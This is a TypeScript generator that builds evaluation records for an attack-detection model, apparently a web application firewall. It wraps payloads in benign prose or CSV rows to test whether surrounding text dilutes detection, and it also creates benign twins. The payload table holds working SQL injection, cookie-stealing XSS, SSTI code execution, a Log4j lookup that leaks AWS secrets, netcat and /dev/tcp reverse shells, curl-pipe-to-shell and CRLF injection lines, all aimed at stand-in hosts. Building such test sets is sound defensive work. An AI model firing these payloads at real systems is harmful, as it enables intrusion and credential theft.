/**
 * Dilution carriers (session 33, dil33, issue 14 "Evasion is the attacker's first move"): the model scores a form of up
 * to a window (512 chars) whole, so a sentence or two of ordinary prose before, after or around a payload pulls its
 * score under the block point while the payload still works. This set wraps payloads in benign context of 5–400
 * characters and sends them as query, form, JSON and multipart values; each carrier's payload is also sent alone on the
 * same route (category `alone:<kind>`, id `<carrier id>/alone`), so a carrier that passes is seen beside its payload.
 * Benign twins (category `twin:<context source>`) put the same contexts around benign technical mentions (ordinary
 * words, code identifiers, file names, markup mentioned in prose): what a fix costs. Deterministic by seed.
 *
 * Only payloads that still execute with text around them (assumed sink in brackets):
 * - `sql`: quote breakouts ending in a comment (a string literal of a query: `' UNION … --`; text before stays in the
 *   literal, text after is commented out);
 * - `xss`: markup and handlers (HTML reflected in a page: text around is text nodes);
 * - `ssti`: template expressions (a template rendered from the value: text around is literal text);
 * - `jndi`: Log4j lookups (a logged message: a lookup is resolved anywhere in it);
 * - `cmd`: command substitution and separators ending in `#` (a shell command line or a double-quoted argument:
 *   `$(…)` and backticks run anywhere, `; cmd #` ends what came before and comments out what follows);
 * - `crlf`: a line break and a header (a header value: text before stays in the first header);
 * - `family:*`: the attack-family grammars whose payloads are of those kinds (shell substitution, script one-liners,
 *   PowerShell and cmd.exe after a separator, JNDI, EL/SpEL, PHP code, server-side JS templates, CRLF);
 * - `exploit`: field values of the exploit generator's templates holding command substitution, a JNDI lookup, markup
 *   with a handler or script, a template expression or PHP code.
 * Left out: path traversal and SSRF URLs (a prefix makes another path or address), whole-value expressions (OGNL, a
 * JVM expression, a serialized object), keys (prototype pollution), numeric-context SQL (`1 AND SLEEP(5)` needs the
 * value to start with it; the lead's `hi 1 AND SLEEP(5)` is kept as the one `sql-numeric` payload, label assumed: a
 * value split on spaces whose first word is dropped).
 *
 *   npx tsx datasets/dilution-carriers.ts --out /tmp/dil.ndjson [--seed 7] [--alone] [--long | --records]
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { RequestRecord } from '../src/eval/record.js';
import { synthesizeFamilyAttacks } from '../src/model/training-data/attack-families/index.js';
import { carrierRequest } from './shape-carriers.js';
import type { ShapeRoute, Spelling } from './shape-carriers/shapes.js';
import { exploitPayloadFields } from './exploit-payloads.js';
import { MESSAGES } from './lib/phrases.js';
import { Rng } from './lib/rng.js';
import { loadTextCorpus } from './lib/text.js';
import { flagReader } from './lib/cli-flags.js';

export const DILUTION_SOURCE = 'dilution-carriers';

/** Payloads written here, by kind; each works with text before and after it in the sink named in the header. */
export const DILUTION_PAYLOADS: Record<string, readonly string[]> = {
  sql: ["' UNION SELECT username,password FROM users-- ", "' OR '1'='1'-- ", "' AND SLEEP(5)-- ", "'; DROP TABLE users-- ", "' UNION SELECT NULL,table_name FROM information_schema.tables-- ", "' AND extractvalue(1,concat(0x7e,version()))-- ", "' OR 1=1#", "') OR ('1'='1'-- "],
  'sql-numeric': ['1 AND SLEEP(5)'],
  xss: ['<img src=x onerror=alert(document.domain)>', "<script>fetch('//x.test/?c='+document.cookie)</script>", '<svg onload=alert(1)>', '"><script>alert(1)</script>', '<iframe src="javascript:alert(document.cookie)"></iframe>', '<body onload=alert(1)>', "<a href=\"javascript:fetch('//x.test/'+document.cookie)\">click</a>", '<details open ontoggle=alert(1)>'],
  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', "<%= system('id') %>", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  jndi: ['${jndi:ldap://x.test/a}', '${${lower:j}ndi:rmi://x.test:1099/a}', '${jndi:dns://x.test/${env:AWS_SECRET_ACCESS_KEY}}'],
  cmd: ['$(cat /etc/passwd)', '`id`', '; cat /etc/passwd #', '| nc 10.0.0.1 4444 -e /bin/sh #', '$(curl -s http://x.test/a.sh|sh)', '&& wget http://x.test/x -O /tmp/x #', "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #"],
  crlf: ['\r\nSet-Cookie: session=attacker', '\r\nLocation: https://x.test/'],
};

/** Attack families whose payloads work inside text (see the header). */
export const DILUTION_FAMILIES = ['shell-substitution', 'script-oneliner', 'powershell', 'cmd-windows', 'jndi-log4shell', 'spel-el-mvel', 'php-injection', 'node-ssjs', 'crlf-header-injection'] as const;

/** An exploit field value of one of the kinds above (not percent-encoded: the carrier is spelled by its route). */
const EXPLOIT_KIND = /\$\([^)]{2,}\)|`[^`\s][^`]*`|\$\{jndi:|<script|<svg[^>]*\son\w+=|<img[^>]*\son\w+=|\{\{[^}]*[.(*][^}]*\}\}|<\?php/i;

/** Benign technical mentions: what people write about code and markup in prose, no attack in them. */
export const BENIGN_MENTIONS: readonly string[] = [
  'the user_id column',
  'getUserById()',
  'Array.prototype.map()',
  'the <br> tag',
  'src/index.ts',
  'npm install --save-dev typescript',
  'select the Union option',
  'order by date',
  'the drop-down menu',
  'C:\\Users\\ann\\Documents',
  '{{ name }}',
  "it's 50% off",
  'R&D budget (Q3)',
  'a > b && b > c',
  'SELECT COUNT(*) FROM orders',
  'console.log(err)',
  'the onClick handler',
  '<strong>bold</strong>',
  'cat ~/.bashrc',
  'process.env.NODE_ENV',
  'git commit -m "fix typo"',
  'x = y + 1;',
  'rm -rf node_modules',
  'https://docs.example.test/guide?page=2',
  'ann@example.com',
  'v2.14.3',
  'the script tag',
  'echo $HOME',
  '#42 and #43',
  'user.name = "ann"',
];

/** Chat lines, code-review comments and JSON-ish notes, written here. */
const CHAT = [
  'hi',
  'hey there,',
  'ok thanks!',
  'sure, one sec',
  'lol yes',
  'can you take a look when you have a minute?',
  'morning all, quick question about the release',
  "I'll be out tomorrow afternoon, ping me before noon.",
  'sounds good to me, ship it',
  'did anyone else get logged out this morning?',
];
const REVIEW = [
  'nit: rename this to something clearer',
  'LGTM once the tests pass.',
  'Could we move this into its own function? It is getting long.',
  'This breaks when the list is empty, see the failing case in CI.',
  'Why not reuse the existing helper here?',
  'Please add a test for the error path.',
  'Nice cleanup, much easier to follow now.',
  'I think this should be behind the feature flag until next sprint.',
];
const NOTES = [
  'note: customer called twice, prefers email',
  'status: waiting on warehouse, eta friday',
  'priority: low, tags: billing, refund',
  'owner: ann, due: 2026-12-20',
  'summary: duplicate charge on the November invoice',
  'follow-up: send the replacement once stock arrives',
];

export const CONTEXT_SOURCES = ['shakespeare', 'readme', 'support', 'chat', 'review', 'notes'] as const;
export type ContextSource = (typeof CONTEXT_SOURCES)[number];
export const POSITIONS = ['before', 'after', 'around'] as const;
export type Position = (typeof POSITIONS)[number];
/** Context lengths (chars, all of it around one payload): the tables' columns. */
export const LENGTH_BUCKETS: readonly (readonly [number, number])[] = [
  [5, 20],
  [21, 60],
  [61, 150],
  [151, 400],
];
/** Long contexts (`--long`): a payload after a page of prose shares each 512-char window with most of it. */
export const LONG_BUCKETS: readonly (readonly [number, number])[] = [
  [401, 1200],
  [1201, 5000],
];

const SHAKESPEARE = '/work/shared/datasets/tinyshakespeare/benign.payloads.ndjson';

function shakespeareLines(): string[] {
  try {
    const out: string[] = [];
    for (const line of readFileSync(SHAKESPEARE, 'utf8').split('\n')) {
      if (out.length >= 4000) break;
      if (line === '') continue;
      const text = (JSON.parse(line) as { text: string }).text;
      if (text.length >= 20 && text.length <= 160) out.push(text);
    }
    return out;
  } catch {
    return ['Before we proceed any further, hear me speak.', 'You are all resolved rather to die than to famish?'];
  }
}

/** Benign context of about `length` chars from `source`: sentences joined, cut at a word boundary. */
export function contextOf(rng: Rng, sentences: readonly string[], length: number): string {
  let text = '';
  for (let i = 0, most = length > 400 ? 400 : 20; i < most && text.length < length; i++) text = text === '' ? rng.pick(sentences) : `${text} ${rng.pick(sentences)}`;
  if (text.length <= length) return text;
  const cut = text.lastIndexOf(' ', length);
  return cut >= 3 ? text.slice(0, cut) : text.slice(0, length);
}

const FIRST_NAMES = ['Alice', 'Bob', 'Carla', 'Dmitri', 'Emma', 'Farid', 'Grace', 'Hiro', 'Ines', 'Jonas', 'Kemal', 'Lena', 'Mateo', 'Nora'];
const LAST_NAMES = ['Smith', 'Jones', 'Diaz', 'Ivanov', 'Brown', 'Khan', 'Okafor', 'Tanaka', 'Silva', 'Berg', 'Yilmaz', 'Novak'];
const CITIES = ['Berlin', 'Lisbon', 'Osaka', 'Lagos', 'Toronto', 'Austin', 'Krakow', 'Porto', 'Leeds', 'Lyon'];
const ROW_NOTES = ['vip', 'call back', '', 'prefers email', 'late payer', 'moved in March', 'wholesale', 'asked for invoice copy', 'n/a'];

/**
 * Records instead of prose (`--records`): a CSV-like export of about `length` chars (a header, then `id`, name, email,
 * city, note; `,`, `;` or a tab between fields) with `payload` as the note of its last row (`before`), its first
 * (`after`) or a middle one (`around`): a payload in one cell of an import file shares every window with the rows.
 */
export function recordsAround(rng: Rng, payload: string, length: number, position: Position): string {
  const sep = rng.pick([',', ';', '\t']);
  const rows: string[] = [];
  let size = 0;
  for (let i = 0; i < 400 && size < length; i++) {
    const first = rng.pick(FIRST_NAMES);
    const last = rng.pick(LAST_NAMES);
    const row = [String(1000 + i), `${first} ${last}`, `${first.toLowerCase()}.${last.toLowerCase()}${i}@example.com`, rng.pick(CITIES), rng.pick(ROW_NOTES)];
    rows.push(row.join(sep));
    size += rows[rows.length - 1].length + 1;
  }
  const at = position === 'after' ? 0 : position === 'before' ? rows.length - 1 : rows.length >> 1;
  const cells = rows[at].split(sep);
  cells[cells.length - 1] = payload;
  rows[at] = cells.join(sep);
  return [['id', 'name', 'email', 'city', 'note'].join(sep), ...rows].join('\n');
}

/** `payload` placed in `context` as `position` says (`around`: the context split in two at a word boundary). */
export function placePayload(context: string, payload: string, position: Position): string {
  switch (position) {
    case 'before':
      return `${context} ${payload}`;
    case 'after':
      return `${payload} ${context}`;
    case 'around': {
      const mid = context.indexOf(' ', context.length >> 1);
      if (mid < 0) return `${context} ${payload} ${context}`;
      return `${context.slice(0, mid)} ${payload} ${context.slice(mid + 1)}`;
    }
  }
}

const FIELDS = ['message', 'details', 'q', 'text', 'description', 'value'];
const SPELLINGS: readonly Spelling[] = ['query', 'form', 'json', 'multipart'];
const HOSTS = { query: 'shop.example.test', form: 'shop.example.test', json: 'api.example.test', multipart: 'shop.example.test' } as const;
const PATHS = { query: '/search', form: '/support/ticket', json: '/api/comments', multipart: '/upload' } as const;

function routeFor(spelling: Spelling, field: string): ShapeRoute {
  const s = spelling as 'query' | 'form' | 'json' | 'multipart';
  return { method: s === 'query' ? 'GET' : 'POST', host: HOSTS[s], path: PATHS[s], spelling, field, beside: s === 'query' ? { page: '1' } : { subject: 'order' } };
}

export interface DilutionPayload {
  kind: string;
  text: string;
}

/** The payloads of the set: written here, family draws (`perFamily` each) and exploit field values (`exploitFields` at most). */
export function dilutionPayloads(seed: number, perFamily = 3, exploitFields = 24): DilutionPayload[] {
  const out: DilutionPayload[] = [];
  for (const [kind, list] of Object.entries(DILUTION_PAYLOADS)) for (const text of list) out.push({ kind, text });
  for (const a of synthesizeFamilyAttacks(seed, perFamily, DILUTION_FAMILIES)) {
    // A family draw spelled percent-encoded is its encoding's case, not this set's; a long one is a window of its own.
    if (/%[0-9a-f]{2}/i.test(a.text) || a.text.length > 200) continue;
    out.push({ kind: `family:${a.family}`, text: a.text.trim() });
  }
  const seen = new Set<string>();
  let n = 0;
  for (const field of exploitPayloadFields(seed, 1, 'skip')) {
    if (n >= exploitFields) break;
    const form = field.forms.find((f) => EXPLOIT_KIND.test(f) && !/%[0-9a-f]{2}/i.test(f) && f.length <= 200);
    if (form === undefined || seen.has(field.template)) continue;
    seen.add(field.template);
    out.push({ kind: 'exploit', text: form });
    n++;
  }
  return out;
}

export interface DilutionOptions {
  /** Also each carrier's payload alone on the same route (`<id>/alone`, category `alone:<kind>`). */
  withPayloads?: boolean;
  /** The long context buckets (`LONG_BUCKETS`, ids' bucket 4 and 5) instead of the four short ones. */
  long?: boolean;
  /** Records around the payloads instead of prose (`recordsAround`, context source `records`), at the long buckets. */
  records?: boolean;
}

/**
 * Carriers (label attack, category = the payload's kind) for every payload in every position and context-length
 * bucket, spelling, field and context source drawn; benign twins (label benign, category `twin:<source>`) for every
 * mention likewise. Ids: `dilution-carriers/<a|b>/<payload>/<position>/<bucket>/<spelling>/<source>`.
 */
export function generateDilutionCarriers(seed: number, options: DilutionOptions = {}): RequestRecord[] {
  const pools: Record<ContextSource, readonly string[]> = {
    shakespeare: shakespeareLines(),
    readme: loadTextCorpus().sentences.filter((s) => s.length >= 20 && s.length <= 200),
    support: MESSAGES.en_US,
    chat: CHAT,
    review: REVIEW,
    notes: NOTES,
  };
  const out: RequestRecord[] = [];
  const long = options.long === true || options.records === true;
  const buckets = long ? LONG_BUCKETS : LENGTH_BUCKETS;
  const bucketBase = long ? LENGTH_BUCKETS.length : 0;
  const emit = (label: 'attack' | 'benign', tag: string, index: number, category: string, text: string, rng: Rng): void => {
    POSITIONS.forEach((position) => {
      buckets.forEach(([lo, hi], b) => {
        const bucket = b + bucketBase;
        const source = options.records === true ? 'records' : rng.pick(CONTEXT_SOURCES);
        const spelling = rng.pick(SPELLINGS);
        const field = rng.pick(FIELDS);
        const value = source === 'records' ? recordsAround(rng, text, rng.int(lo, hi), position) : placePayload(contextOf(rng, pools[source], rng.int(lo, hi)), text, position);
        const id = `${DILUTION_SOURCE}/${tag}/${index}/${position}/${bucket}/${spelling}/${source}`;
        const route = routeFor(spelling, field);
        // A twin's category names its context source, the column its cost is read by.
        const named = label === 'benign' ? `${category}:${source}` : category;
        out.push({ id, source: DILUTION_SOURCE, label, category: named, ...carrierRequest(route, value) });
        if (options.withPayloads === true) out.push({ id: `${id}/alone`, source: DILUTION_SOURCE, label, category: `alone:${named}`, ...carrierRequest(route, text) });
      });
    });
  };
  dilutionPayloads(seed).forEach((p, i) => emit('attack', 'a', i, p.kind, p.text, Rng.derive(seed, `payload:${i}`)));
  BENIGN_MENTIONS.forEach((m, i) => emit('benign', 'b', i, 'twin', m, Rng.derive(seed, `mention:${i}`)));
  return out;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const argv = process.argv.slice(2);
  const flag = flagReader(argv);
  if (argv.includes('--help') || flag('out') === undefined) {
    console.log('Usage: npx tsx datasets/dilution-carriers.ts --out FILE.ndjson [--seed 7] [--alone] [--long] [--records]\n\nWrites payloads wrapped in benign context (attack) and the same contexts around benign technical mentions (benign) as warden eval records; --alone adds each payload or mention alone on the same route; --long uses contexts of 401-5,000 chars (buckets 4 and 5) instead of 5-400; --records puts the payload in one cell of a CSV-like export of 401-5,000 chars instead of prose.');
    process.exitCode = argv.includes('--help') ? 0 : 2;
  } else {
    const records = generateDilutionCarriers(Number(flag('seed') ?? 7), { withPayloads: argv.includes('--alone'), long: argv.includes('--long'), records: argv.includes('--records') });
    writeFileSync(resolve(flag('out')!), `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
    console.log(`${records.length} records (${records.filter((r) => r.label === 'attack' && !r.category.startsWith('alone:')).length} carriers) -> ${flag('out')}`);
  }
}
